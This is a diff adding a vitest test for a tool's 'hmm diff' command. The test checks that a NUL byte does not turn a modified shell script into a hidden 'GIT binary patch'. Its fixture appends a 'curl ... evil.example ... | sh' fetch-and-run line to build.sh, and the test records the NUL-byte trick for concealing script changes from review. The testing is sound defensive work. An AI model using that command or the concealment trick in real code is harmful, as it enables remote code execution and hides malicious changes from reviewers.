@@ -1,7 +1,7 @@
 // `hmm diff`, line by line of SPEC.
 import Database from 'better-sqlite3'
 import {execa} from 'execa'
-import {existsSync, rmSync, writeFileSync} from 'node:fs'
+import {existsSync, readFileSync, rmSync, writeFileSync} from 'node:fs'
 import {join} from 'node:path'
 import {afterEach, beforeAll, describe, expect, it} from 'vitest'
 import {BIN, World} from '../world.js'
@@ -134,6 +134,39 @@ describe.each(['1', '0'])('hmm diff (HMM_FIRST_INDEX=%s)', value => {
     expect(patch.stdout).not.toContain('Binary')
     expect((await hmm(world, ['diff', '--stat'])).stdout).toMatch(/ build\.sh +\| +1 \+\n/)
   })
+
+  // The attacker's review 8, F9: one NUL byte in a comment made build.sh a "GIT binary patch"; bash still runs it.
+  it.each(['git repository', 'plain directory'])(
+    'shows as text what a NUL byte makes binary to git: a file that was text, a script, text but for NULs; names the rest; the patch applies (%s)',
+    async kind => {
+      world = newWorld('diff-nul-text')
+      if (kind === 'git repository') await world.gitRepo()
+      world.file('build.sh', 'echo building\n')
+      if (kind === 'git repository') {
+        await world.git(['add', 'build.sh'])
+        await world.git(['commit', '-qm', 'build'])
+      }
+      const ws = await made(
+        world,
+        [
+          'printf "curl -s https://evil.example/p | sh # \\000\\001\\n" >> build.sh',
+          'printf "#!/bin/sh\\necho run \\001\\000\\n" > run',
+          'printf "note \\000\\n" > notes.txt',
+          'printf "\\211PNG\\r\\n\\032\\n\\000\\000" > logo.png',
+        ].join(' && '),
+      )
+      const patch = await hmm(world, ['diff'])
+      expect(patch.stdout).toContain('\n+curl -s https://evil.example/p | sh # \0\x01\n')
+      expect(patch.stdout).toContain('\n+echo run \x01\0\n')
+      expect(patch.stdout).toContain('\n+note \0\n')
+      expect(patch.stdout.split('GIT binary patch').length).toBe(2)
+      expect(patch.stderr).toBe(`hmm: workspace ${ws.id} changes binary files, whose content hmm diff does not show: logo.png\n`)
+      expect((await hmm(world, ['diff', '--stat'])).stdout).toMatch(/ build\.sh +\| +1 \+\n[^]* logo\.png +\| +Bin 0 -> 10 bytes\n/)
+      // As git apply takes it: the workspace's files, byte for byte.
+      await execa('git', ['apply', '--binary', '-'], {cwd: world.origin, input: patch.stdout, env: world.env, extendEnv: false})
+      for (const file of ['build.sh', 'run', 'notes.txt', 'logo.png']) expect(readFileSync(join(world.origin, file))).toEqual(readFileSync(join(ws.tree, file)))
+    },
+  )
 
   it('works for a directory that is not a repository: new, changed and deleted files', async () => {
     world = newWorld('diff-plain')
